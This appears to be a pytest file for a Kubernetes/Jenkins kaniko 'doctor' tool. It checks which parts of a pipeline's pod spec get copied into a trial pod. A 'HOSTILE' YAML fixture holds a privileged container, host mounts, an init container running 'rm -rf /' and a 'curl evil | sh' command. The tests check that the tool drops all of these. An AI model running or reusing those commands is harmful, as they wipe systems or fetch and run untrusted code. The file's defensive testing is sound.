"""What a trial takes of a pipeline's pod, and what it leaves out."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from kaniko_guide.doctor import trial_plan
from tests.kaniko_guide.doctor.fake import POD, jenkinsfile, pipeline

if TYPE_CHECKING:
    from kaniko_guide.doctor.trial_plan import Plan

HOSTILE = """\
spec:
  hostNetwork: true
  hostPID: true
  serviceAccountName: builder
  nodeSelector: {a: b}
  securityContext: {runAsUser: 0, sysctls: [{name: kernel.x, value: "1"}]}
  affinity: {nodeAffinity: {a: 1}, podAffinity: {b: 1}}
  initContainers: [{name: evil, image: evil/a, command: [rm, -rf, /]}]
  containers:
  - name: kaniko
    image: ghcr.io/osscontainertools/kaniko:v1.28.3-debug
    command: [sh, -c, 'curl evil | sh']
    args: [x]
    lifecycle: {postStart: {exec: {command: [evil]}}}
    ports: [{containerPort: 80, hostPort: 80}]
    securityContext: {privileged: true, runAsUser: 0, procMount: Unmasked}
    volumeMounts:
    - {name: socket, mountPath: /var/run/docker.sock}
    - {name: cache, mountPath: /cache}
    - {name: docker-config, mountPath: /kaniko/.docker, mountPropagation: Bidirectional}
  volumes:
  - {name: socket, hostPath: {path: /var/run/docker.sock}}
  - {name: cache, persistentVolumeClaim: {claimName: cache}}
  - {name: docker-config, secret: {secretName: registry}}
  - {name: all, projected: {sources: []}}
"""


def plan(pod: str = POD, text: str = "") -> Plan:
    needs = pipeline(Jenkinsfile=text or jenkinsfile(pod))
    made = trial_plan.make(needs.pods[0], needs.destinations, "builds", "http://jenkins/", "0a1b2c3d")
    assert made is not None
    return made


def test_images_mounts_and_security_are_taken_and_commands_replaced() -> None:
    made = plan()
    spec = made.pod["spec"]
    assert made.name == "kaniko-guide-doctor-0a1b2c3d"
    assert [(container["name"], container["command"]) for container in spec["containers"]] == [
        ("kaniko", ["/busybox/sleep", "600"]),
        ("jnlp", ["sleep", "600"]),
    ]
    assert spec["containers"][0]["volumeMounts"] == [{"name": "docker-config", "mountPath": "/kaniko/.docker"}]
    assert [volume["name"] for volume in spec["volumes"]] == ["docker-config"]
    assert (spec["activeDeadlineSeconds"], spec["automountServiceAccountToken"]) == (600, False)
    assert made.destinations == ["registry.test/team/app:kaniko-guide-doctor"]
    assert (made.not_tried, made.doubts) == ((), ())
    assert (made.left_out, made.jenkins_url) == ((), "http://jenkins/")
    assert [(one.container, one.docker_config) for one in made.executors] == [("kaniko", "/kaniko/.docker")]


def test_nothing_of_a_hostile_pod_is_taken() -> None:
    made = plan(HOSTILE)
    text = json.dumps(made.pod)
    for word in (
        "evil",
        "hostPath",
        "hostNetwork",
        "hostPID",
        "privileged",
        "hostPort",
        "docker.sock",
        "lifecycle",
        "Claim",
    ):
        assert word not in text, word
    for word in ("sysctls", "procMount", "podAffinity", "mountPropagation", "projected", "initContainers", "args"):
        assert word not in text, word
    assert made.left_out == (
        "hostNetwork",
        "hostPID",
        "initContainers: evil",
        "volumes: socket (hostPath)",
        "volumes: cache (persistentVolumeClaim)",
        "volumes: all (projected)",
        "privileged: kaniko",
        "lifecycle: kaniko",
        "hostPort: kaniko",
    )
    spec = made.pod["spec"]
    assert (spec["nodeSelector"], spec["affinity"]) == ({"a": "b"}, {"nodeAffinity": {"a": 1}})
    assert spec["securityContext"] == {"runAsUser": 0}


def test_the_executor_is_only_asked_about_what_it_would_reach_in_the_same_way() -> None:
    for flag in ("--insecure", "--skip-tls-verify", "--registry-certificate=a=b"):
        assert plan(text=jenkinsfile().replace("--context", f"{flag} --context")).destinations == []
    for image in ("registry.test/$TEAM/app:1", "registry.test/-x:1", "registry.test/a@sha256:0"):
        assert plan(text=jenkinsfile().replace("registry.test/team/app:$BUILD_NUMBER", image)).destinations == []


def test_a_pod_without_a_shell_has_no_executor_and_variables_are_noted() -> None:
    assert plan(POD.replace("-debug", "")).executors == ()
    env = POD.replace("    tty: true", "    env: [{name: HTTPS_PROXY, value: x}]\n    tty: true")
    assert [one.has_variables for one in plan(env).executors] == [True]


def test_a_destination_is_tried_in_the_container_of_its_build_or_named() -> None:
    other = POD.replace(
        "  volumes:\n", "  - {name: other, image: 'ghcr.io/osscontainertools/kaniko:v1.28.3-debug'}\n  volumes:\n"
    )
    steps = (
        "container('other') { sh '/kaniko/executor --context=. --destination=other.test/a:1' }\n"
        "container('kaniko') { sh '/kaniko/executor --context=. --destination=registry.test/$TEAM/b:1' }\n"
        "container('kaniko') { sh '/kaniko/executor --context=. --destination=registry.test/c:1' }\n"
    )
    text = jenkinsfile(other).replace(
        "                container('kaniko')", f"{steps}                container('kaniko')"
    )
    made = plan(text=text)
    assert [(push.container, push.image.partition(":")[0]) for push in made.pushes] == [
        ("other", "other.test/a"),
        ("kaniko", "registry.test/c"),
        ("kaniko", "registry.test/team/app"),
    ]
    assert [(where.value, reason) for where, reason in made.not_tried] == [
        ("--destination=registry.test/$TEAM/b:1", trial_plan.CHANGED)
    ]
    unknown = pipeline(Jenkinsfile=jenkinsfile(other), build_sh="/kaniko/executor --destination=registry.test/d:1\n")
    made_other = trial_plan.make(unknown.pods[0], unknown.destinations, "builds", "", "0a1b2c3d")
    assert made_other is not None
    assert [reason for _, reason in made_other.not_tried] == [trial_plan.CONTAINER_UNKNOWN]


@pytest.mark.parametrize(
    ("old", "new", "doubts"),
    [
        ("spec:\n", "spec:\n  dnsPolicy: None\n  dnsConfig: {nameservers: [10.0.0.1]}\n", ("dnsConfig", "dnsPolicy")),
        ("spec:\n", "spec:\n  hostAliases: [{ip: 10.0.0.1, hostnames: [registry.test]}]\n", ("hostAliases",)),
        ("spec:\n", "spec:\n  initContainers: [{name: a, image: b}]\n", ("initContainers",)),
        ("    secret:", "    projected: {sources: []}\n    x:", ("volumes: docker-config",)),
        ("    tty: true", "    tty: true\n    lifecycle: {postStart: {exec: {command: [a]}}}", ("lifecycle: kaniko",)),
        ("    tty: true", "    tty: true\n    securityContext: {privileged: true}", ()),
    ],
)
def test_what_is_left_out_and_may_change_the_push_is_known(old: str, new: str, doubts: tuple[str, ...]) -> None:
    assert plan(POD.replace(old, new)).doubts == doubts


@pytest.mark.parametrize(
    "odd",
    [
        "  initContainers: 5\n",
        "  securityContext: runAsUser\n",
        "  affinity: {nodeAffinity: 5}\n",
        "  hostAliases: 5\n",
    ],
)
def test_yaml_of_another_form_is_no_error(odd: str) -> None:
    pod = POD.replace("    - name: docker-config", "    - {name: [a], mountPath: 5}\n    - name: docker-config")
    text = pod.replace("    tty: true", "    ports: [5]\n    securityContext: abc\n    env: {a: b}\n    tty: true")
    assert plan(text.replace("spec:\n", f"spec:\n{odd}")).pod["spec"]["containers"]


def test_there_is_no_plan_for_a_pod_that_is_not_known() -> None:
    needs = pipeline(Jenkinsfile=jenkinsfile(settings="nodeSelector 'a'"))
    assert trial_plan.make(needs.pods[0], (), "builds", "", "0a1b2c3d") is None
